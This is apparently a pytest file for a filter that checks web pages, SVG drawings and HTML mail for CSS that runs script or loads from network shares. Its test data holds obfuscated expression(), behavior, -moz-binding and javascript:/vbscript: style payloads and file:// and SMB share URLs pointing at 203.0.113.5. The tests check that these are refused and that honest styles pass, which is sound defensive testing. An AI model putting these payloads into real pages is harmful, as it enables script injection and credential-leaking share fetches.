r"""Styles that act, in pages, drawings and mails: spelled out, escaped, cut by comments; and the styles of honest pages."""

from __future__ import annotations

import pytest

from tests.relatives.judged import action, delivered, kinds, refused

ACTING = [
    "<div style='width:expression(alert(1))'>",
    "<div style=width:expression(alert(1))>",
    "<p style='width:ex/**/pression(alert(1))'>",
    r"<style>p{wi\64th:\65xpression(alert(1))}</style>",
    r"<style>p{width:\000065\000078pression(alert(1))}</style>",
    "<p style='width:&#101;xpression(alert(1))'>",
    "<style>body{behavior:url(http://203.0.113.5/a.htc)}</style>",
    "<div style='-moz-binding:url(http://203.0.113.5/x.xml#x)'>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>body{background:url('javascript:alert(1)')}</style>",
    "<style>li{list-style:url(vbscript:x)}</style>",
]
SHARES = [
    r"<style>@import url(\\\\203.0.113.5\\a.css);</style>",
    r"<style>@import '\\203.0.113.5\a.css';</style>",
    "<style>@import url(file://203.0.113.5/s/a.css);</style>",
    "<style>body{background:url(file:////203.0.113.5/s/a.png)}</style>",
    "<p style='background:url(&quot;file://203.0.113.5/s/a.png&quot;)'>",
    "<style>@font-face{src:url(smb://203.0.113.5/s/a.ttf)}</style>",
    r"<p style='background:u\72l(file://203.0.113.5/a)'>",
]
HONEST = [
    "<style>/* expression(x) behavior: */ p{color:red}</style>",
    "<style>p{scroll-behavior:smooth;overscroll-behavior:none}</style>",
    r"<style>v\:* {behavior:url(#default#VML);}</style>",
    "<style>@import url(https://fonts.example.org/css);</style>",
    "<style>p{background:url(bild.png)}</style>",
    r"<style>li:before{content:'\25B6'}</style>",
    "<p>style=width:expression(x)</p>",
    "<p style='scroll-behavior:smooth'>x</p>",
    "<style>p{behavior:</style>",
]


def page(markup: str) -> bytes:
    return f"<!DOCTYPE html><html><head><title>x</title></head><body>{markup}</body></html>".encode()


@pytest.mark.parametrize("markup", ACTING)
def test_script_in_a_style_is_script(markup):
    assert "html-script" in kinds(page(markup), "a.html")
    assert refused(page(markup), "a.html")


@pytest.mark.parametrize("markup", SHARES)
def test_a_style_that_fetches_from_a_share_is_refused(markup):
    assert "html-network-path" in kinds(page(markup), "a.html")
    assert refused(page(markup), "a.html")


@pytest.mark.parametrize("markup", HONEST)
def test_styles_of_honest_pages_are_nothing(markup):
    assert delivered(page(markup), "a.html")
    assert not {"html-script", "html-network-path"} & kinds(page(markup), "a.html")


def test_drawings_have_styles_too():
    drawing = (
        b"<svg xmlns='http://www.w3.org/2000/svg'><style>rect{fill:url(file://203.0.113.5/s/a)}</style><rect/></svg>"
    )
    assert refused(drawing, "a.svg")


@pytest.mark.parametrize("markup", [ACTING[0], HONEST[2]])
def test_in_a_mail_a_style_runs_nowhere(markup):
    head = "From: a@example.org\r\nTo: b@example.org\r\nSubject: x\r\nDate: Mon, 2 Nov 2026 10:00:00 +0100\r\nMIME-Version: 1.0\r\n"
    letter = f"{head}Content-Type: text/html; charset=utf-8\r\n\r\n<html><body>{markup}</body></html>\r\n".encode()
    assert action(letter, "m.eml") in ("deliver", "flag")
    assert action(letter, "m.eml", "kaiserslautern") in ("deliver", "flag")


def test_a_page_cut_inside_of_a_style_is_read_to_its_end():
    assert refused(page(ACTING[3])[:90], "a.html")
